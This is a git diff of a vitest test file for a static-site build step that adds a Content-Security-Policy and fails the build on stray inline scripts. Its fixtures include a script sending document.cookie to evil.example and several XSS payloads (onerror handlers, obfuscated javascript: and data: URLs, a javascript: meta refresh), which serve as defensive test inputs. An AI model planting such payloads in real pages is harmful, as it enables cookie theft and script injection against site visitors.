@@ -3,6 +3,7 @@ import { mkdir, mkdtemp, readFile, writeFile } from 'node:fs/promises';
 import os from 'node:os';
 import path from 'node:path';
 import { describe, expect, test } from 'vitest';
+import { BuildError } from '../../scripts/lib/diagnostics';
 import { finaliseSite } from '../../scripts/lib/finalise';
 
 const page = (body: string) => `<!DOCTYPE html><html lang="zh-CN"><head><meta charset="utf-8"><title>澜湄合作</title></head><body>${body}</body></html>`;
@@ -41,9 +42,9 @@ describe('finaliseSite', () => {
     const dist = await mkdtemp(path.join(os.tmpdir(), 'mekong-finalise-'));
     await mkdir(path.join(dist, 'zh'));
     await writeFile(path.join(dist, 'zh', 'index.html'), page('<p>推进</p><script>fetch("https://evil.example/?" + document.cookie)</script>'));
-    await expect(finaliseSite(dist, { inlineScripts: ['document.title = "x";'] })).rejects.toThrow(/zh\/index\.html: an inline script the build does not emit/u);
+    await expect(finaliseSite(dist, { inlineScripts: ['document.title = "x";'] })).rejects.toThrow(/zh\/index\.html:1:\d+: error: Unexpected inline script \('sha256-[^']+'\), expected only the scripts of src\/lib\/inline-scripts\.ts .*\[inline-script\]/u);
     // With the build's own scripts only, too: the page's script is never hashed into a policy.
-    await expect(finaliseSite(dist)).rejects.toThrow(/inline script the build does not emit/u);
+    await expect(finaliseSite(dist)).rejects.toThrow(/Unexpected inline script/u);
   });
 
   test('every page gets the policy: an upper-case charset is found, a page without one fails', async () => {
@@ -52,7 +53,41 @@ describe('finaliseSite', () => {
     await finaliseSite(dist);
     expect(await readFile(path.join(dist, 'index.html'), 'utf8')).toMatch(/<META CHARSET="UTF-8"><meta http-equiv="Content-Security-Policy" content="default-src 'self';/u);
     await writeFile(path.join(dist, 'other.html'), '<!DOCTYPE html><html lang="en"><head><title>x</title></head><body></body></html>');
-    await expect(finaliseSite(dist)).rejects.toThrow(/other\.html: no <meta charset="utf-8">/u);
+    await expect(finaliseSite(dist)).rejects.toThrow(/other\.html: error: Unexpected page without <meta charset="utf-8">/u);
+  });
+});
+
+describe('finaliseSite reads pages as a browser does (security review L4, I7)', () => {
+  test('`<script` inside an attribute value is text: the page gets its policy and the build goes on', async () => {
+    const dist = await mkdtemp(path.join(os.tmpdir(), 'mekong-finalise-'));
+    await mkdir(path.join(dist, 'zh'));
+    // A title in a citation template, an evidence title: inert text that only looks like markup.
+    await writeFile(path.join(dist, 'zh', 'index.html'), page('<div data-template="… <script>alert(1)</script> …" title="<script>x</script>"><a href="/zh/">首页</a></div>'));
+    await writeFile(path.join(dist, 'index.html'), page('<p>澜湄</p>'));
+    const result = await finaliseSite(dist);
+    expect(result).toEqual({ pages: 2, hashes: [] });
+    expect(await readFile(path.join(dist, 'zh', 'index.html'), 'utf8')).toContain('<meta http-equiv="Content-Security-Policy"');
+  });
+
+  test.each([
+    ['an upper-case script', '<SCRIPT>alert(1)</SCRIPT>', 'inline-script', 3],
+    ['a script left open', '<script>alert(1)', 'inline-script', 3],
+    ['a script inside SVG', '<svg><script>alert(1)</script></svg>', 'inline-script', 8],
+    ['an event-handler attribute', '<img src="x.png" alt="" onerror="alert(1)">', 'event-handler', 3],
+    ['a javascript: link', '<a href=" JaVa&#x09;Script:alert(1)">x</a>', 'script-url', 3],
+    ['a data: link', '<a href="data:text/html,<script>alert(1)</script>">x</a>', 'script-url', 3],
+    ['a javascript: refresh', '<meta http-equiv="refresh" content="0; url=javascript:alert(1)">', 'script-url', 3],
+  ])('%s fails the build at its line and column, naming the page', async (_name, markup, ruleId, column) => {
+    const dist = await mkdtemp(path.join(os.tmpdir(), 'mekong-finalise-'));
+    await mkdir(path.join(dist, 'en'));
+    await writeFile(path.join(dist, 'en', 'index.html'), `${page('<p>ok</p>')}`.replace('<body>', `<body>\n<main>\n  ${markup}`));
+    const failure = await finaliseSite(dist, { shownAs: 'dist' }).then(() => undefined, (error: unknown) => error);
+    expect(failure).toBeInstanceOf(BuildError);
+    const [message] = (failure as BuildError).messages;
+    expect(message!.file).toBe('dist/en/index.html');
+    expect([message!.line, message!.column]).toEqual([3, column]);
+    expect(message!.ruleId).toBe(ruleId);
+    expect(message!.reason).toMatch(/^Unexpected .*, expected /u);
   });
 
   test('a JSON-LD data block passes and stays out of the policy; a script of any JavaScript type still fails', async () => {
@@ -68,7 +103,7 @@ describe('finaliseSite', () => {
     expect(html).toMatch(/script-src 'self' 'wasm-unsafe-eval' '[^']+'; style-src/u);
     for (const type of ['text/javascript', 'module', 'application/ecmascript', 'TEXT/JAVASCRIPT', '']) {
       await writeFile(path.join(dist, 'zh', 'index.html'), page(`<script type="${type}">alert(1)</script>`));
-      await expect(finaliseSite(dist), type).rejects.toThrow(/inline script the build does not emit/u);
+      await expect(finaliseSite(dist), type).rejects.toThrow(/Unexpected inline script/u);
     }
   });
 });
